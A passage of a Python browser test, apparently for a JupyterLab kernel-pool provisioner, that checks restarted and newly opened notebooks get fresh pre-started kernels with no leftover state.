    second notebook and a Kernel > Restart each take a kernel that was started before they asked (the server's log
    says so), and find nothing of the kernel before: no variable, no file, other randomness, count 1."""
    (tmp_path / "config").mkdir()
    pool = {"PooledKernelProvisioner": {"pool_size": 1, "refill_delay": 0}}
    (tmp_path / "config" / "jupyter_server_config.json").write_text(json.dumps(pool))
    with served_lab(tmp_path, env_extra={"SANDBOX_KERNEL_POOL_SIZE": "0"}) as lab:  # the config is what turns it on
        open_notebook(page, lab, KERNEL)
        cell = run_cell(page, "import random; x = 1; open('/tmp/left.txt', 'w').close(); print(random.random())")
        output = cell.locator(".jp-OutputArea-output").first
        expect(output).to_have_text(re.compile(r"0\.\d+"), timeout=CELL_MS)
        before = output.inner_text()
        (first,) = lab.api("GET", "/api/kernels")
        assert pool_lines(lab, first["id"]) == [], "the first kernel of a server starts cold"

        page.keyboard.press("Escape")
        page.keyboard.press("0")  # Kernel > Restart (command mode: 0 0), then its dialog
        page.keyboard.press("0")
        page.get_by_role("button", name="Confirm Kernel Restart").click(timeout=UI_MS)
        expect(kernel_status(page)).to_have_attribute("data-status", "idle", timeout=KERNEL_MS)
        check = "import os, random; print('x' in dir(), os.path.exists('/tmp/left.txt'), random.random())"
        cell = run_cell(page, check)
        output = cell.locator(".jp-OutputArea-output").first
        expect(output).to_have_text(re.compile(r"False False 0\.\d+"), timeout=CELL_MS)
        assert output.inner_text().split()[-1] != before
        expect(cell.locator(".jp-InputPrompt")).to_contain_text("[1]")
        (restarted,) = pool_lines(lab, first["id"])
        assert "taken from the pool" in restarted, restarted

        open_notebook(page, lab, KERNEL)  # a second notebook, its own kernel
        cell = run_cell(page, check)
        expect(cell.locator(".jp-OutputArea-output").first).to_have_text(
            re.compile(r"False False 0\.\d+"), timeout=CELL_MS
        )
        (second,) = [k for k in lab.api("GET", "/api/kernels") if k["id"] != first["id"]]
        (taken,) = pool_lines(lab, second["id"])
        assert "taken from the pool" in taken, taken
